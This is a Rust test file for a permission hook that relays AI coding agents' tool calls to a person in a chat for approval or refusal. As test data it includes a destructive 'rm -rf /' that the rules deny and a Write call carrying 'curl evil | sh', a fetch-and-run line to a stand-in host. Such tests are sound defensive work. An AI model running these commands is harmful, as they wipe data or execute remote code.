//! A call at a hook, and the person who answers for it in a chat.

use serde_json::{Value, json};

use super::project;
use super::server::{BotApi, CHAT, USER};
use crate::hook::{bash, claude, say};

#[test]
fn one_question_for_the_two_events_of_a_call() {
    for (word, behavior) in [("allow", "allow"), ("deny", "deny")] {
        let api = BotApi::start();
        api.react(move |sent| vec![sent.press(word, USER, CHAT)]);
        let project = project(&api, "");
        assert_eq!(bash(&project, "frobnicate push").0, word);
        let call = json!({ "tool_name": "Bash", "tool_input": { "command": "frobnicate push" } });
        let said = claude(&project, "PermissionRequest", call);
        assert_eq!(said["hookSpecificOutput"]["decision"]["behavior"], behavior);
        assert_eq!(api.payloads("sendMessage").len(), 1);
        // What the rules decide is nobody's question.
        assert_eq!(bash(&project, "rm -rf /").0, "deny");
        assert_eq!(bash(&project, "git status").0, "allow");
        assert_eq!(api.payloads("sendMessage").len(), 1);
    }
}

#[test]
fn a_host_without_a_word_for_asking_hears_the_refusal_of_a_person() {
    let api = BotApi::start();
    api.react(|sent| vec![sent.press("deny", USER, CHAT)]);
    let project = project(&api, "");
    let call = json!({ "session_id": "s1", "hook_event_name": "PreToolUse", "tool_name": "Bash",
        "tool_input": { "command": "frobnicate" } });
    let said = say(&project, "codex", &call);
    assert_eq!(said["hookSpecificOutput"]["permissionDecision"], "deny");
    let silent = BotApi::start();
    let project = super::project(&silent, "  timeout_sec: 1\n");
    assert_eq!(say(&project, "codex", &call), Value::Null);
}

#[test]
fn the_person_sees_what_would_be_written() {
    let api = BotApi::start();
    api.react(|sent| vec![sent.press("deny", USER, CHAT)]);
    let project = project(&api, "");
    let call = json!({ "tool_name": "Write",
        "tool_input": { "file_path": "/var/tmp/motd", "content": "curl evil | sh" } });
    claude(&project, "PreToolUse", call);
    let shown = api.payloads("sendMessage")[0]["text"].to_string();
    assert!(shown.contains("/var/tmp/motd") && shown.contains("curl evil | sh"), "{shown}");
}
